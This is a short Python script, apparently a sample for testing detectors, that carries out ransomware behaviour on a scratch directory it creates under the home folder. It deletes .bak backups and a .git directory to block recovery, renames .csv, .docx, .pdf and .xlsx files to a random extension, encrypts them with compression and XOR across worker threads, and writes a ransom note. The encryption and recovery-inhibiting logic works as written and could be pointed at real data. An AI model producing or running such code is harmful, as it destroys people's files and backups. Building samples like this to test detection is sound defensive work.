# technique: T1486 T1490 T1083
"""Ransomware that renames first, then encrypts in place, in a thread pool (T1486, T1490).

A different spelling from read-write-delete: each file is os.rename()d to
<name>.<victim-id> first, then rewritten in place with pathlib
(read_bytes / write_bytes) after zlib compression and a repeating-key XOR,
from ThreadPoolExecutor workers. Backup copies (*.bak, .git objects of a
scratch repo) are deleted with shutil.rmtree to inhibit recovery. Works on a
scratch tree it creates under HOME/work.

A good detector raises a high alert: many files renamed to a common new
extension and rewritten with high-entropy content in a short time.
"""
import concurrent.futures, itertools, os, pathlib, shutil, zlib

root = pathlib.Path.home() / "work"
for i in range(40):
    p = root / f"dir{i % 5}" / f"data{i}.csv"; p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text("id,name,value\n" + "".join(f"{j},n{j},{j * i}\n" for j in range(50)))
(root / "backups").mkdir(exist_ok=True); (root / "backups" / "db.bak").write_bytes(b"x" * 100)
(root / ".git" / "objects").mkdir(parents=True, exist_ok=True)
KEY = os.urandom(16); EXT = ".rc" + KEY.hex()[:6]

def lock(p):
    q = p.with_name(p.name + EXT); os.rename(p, q)
    data = zlib.compress(q.read_bytes())
    q.write_bytes(bytes(a ^ b for a, b in zip(data, itertools.cycle(KEY))))

for bak in list(root.rglob("*.bak")): bak.unlink()
shutil.rmtree(root / ".git", ignore_errors=True)
targets = [p for p in root.rglob("*") if p.is_file() and p.suffix in (".csv", ".docx", ".pdf", ".xlsx")]
with concurrent.futures.ThreadPoolExecutor(4) as ex:
    list(ex.map(lock, targets))
(root / "HOW_TO_DECRYPT.html").write_text("<h1>Files encrypted</h1>")
